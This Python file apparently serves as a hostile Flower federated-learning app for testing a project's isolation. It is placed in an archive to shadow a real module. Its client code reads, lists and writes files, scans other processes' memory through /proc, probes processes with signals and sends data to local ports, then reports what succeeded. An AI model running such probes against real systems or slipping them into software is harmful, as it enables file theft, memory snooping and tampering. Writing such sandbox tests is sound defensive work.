"""A hostile Flower app, placed in the archive as ``protocol/transport/courier.py``, where it shadows ours.

It knows nothing of this project but Flower. Its ServerApp sends the aims, its ClientApp reads what it can and returns
it, and the ServerApp writes that down.
"""

import contextlib
import errno
import json
import os
import re
import socket
import time
from pathlib import Path

from flwr.app import ConfigRecord, Context, Message, RecordDict
from flwr.clientapp import ClientApp
from flwr.serverapp import Grid, ServerApp

#: Most bytes that come back of each thing.
_ENOUGH = 4096
_PATIENCE = 90.0
_MAPPING = re.compile(r"([0-9a-f]+)-([0-9a-f]+) rw")

app = ClientApp()
server = ServerApp()


@app.query("learngene")
def steal(message: Message, context: Context) -> Message:
    """Try every aim, and return the outcomes."""
    aims = json.loads(str(message.content.config_records["aims"]["json"]))
    found = {name: _attempt(*aim) for name, aim in aims.items()}
    found["which code is this"] = {"found": __file__.encode().hex()}
    found["socket"] = {"found": str(context.node_config.get("socket")).encode().hex()}
    return Message(RecordDict({"found": ConfigRecord({"json": json.dumps(found)})}), reply_to=message)


def _attempt(act: str, target: str, more: str) -> dict[str, str]:
    acts = {"read": _read, "list": _list, "write": _write, "memory": _memory, "signal": _signal, "send": _send}
    # What each does first that could be refused: it is known by that name.
    calls = {"signal": "kill", "send": "connect"}
    try:
        return {"found": acts[act](target, more).hex()}
    except OSError as error:
        return {"call": calls.get(act, "open"), "error": errno.errorcode.get(error.errno or 0, str(error.errno))}
    except Exception as error:  # any other error is no refusal
        return {"call": "", "error": type(error).__name__}


def _read(path: str, _: str) -> bytes:
    with open(path, "rb") as file:
        return file.read(_ENOUGH)


def _list(path: str, _: str) -> bytes:
    return " ".join(os.listdir(path)).encode()[:_ENOUGH]


def _write(path: str, text: str) -> bytes:
    Path(path).write_text(text)
    return text.encode()


def _memory(pid: str, wanted: str) -> bytes:
    mark = bytes.fromhex(wanted)
    with open(f"/proc/{pid}/maps") as maps, open(f"/proc/{pid}/mem", "rb", buffering=0) as memory:
        for line in maps:
            if match := _MAPPING.match(line):
                begin, end = int(match[1], 16), int(match[2], 16)
                with contextlib.suppress(OSError, ValueError, OverflowError):
                    memory.seek(begin)
                    if mark in memory.read(min(end - begin, 64 << 20)):
                        return mark
    raise LookupError("nothing of it there")


def _signal(pid: str, _: str) -> bytes:
    os.kill(int(pid), 0)
    return b"there"


def _send(port: str, text: str) -> bytes:
    with socket.create_connection(("127.0.0.1", int(port)), 5.0) as connection:
        connection.sendall(text.encode())
    return text.encode()


@server.main()
def main(grid: Grid, context: Context) -> None:
    """Send the aims that lie beside this file to every node, and write every answer to the file that the run names."""
    aims = Path(__file__).with_name("aims.json").read_text()
    wanted, deadline = int(str(context.run_config["nodes"])), time.monotonic() + _PATIENCE
    nodes: list[int] = []
    while len(nodes) < wanted and time.monotonic() < deadline:
        nodes = list(grid.get_node_ids())
        time.sleep(0.2)
    record = RecordDict({"aims": ConfigRecord({"json": aims})})
    messages = [Message(record, dst_node_id=node, message_type="query.learngene") for node in nodes]
    found = []
    for reply in grid.send_and_receive(messages, timeout=_PATIENCE):
        if reply.has_error():
            found.append({"error": {"error": reply.error.reason}})
        else:
            found.append(json.loads(str(reply.content.config_records["found"]["json"])))
    Path(str(context.run_config["out"])).write_text(json.dumps(found))
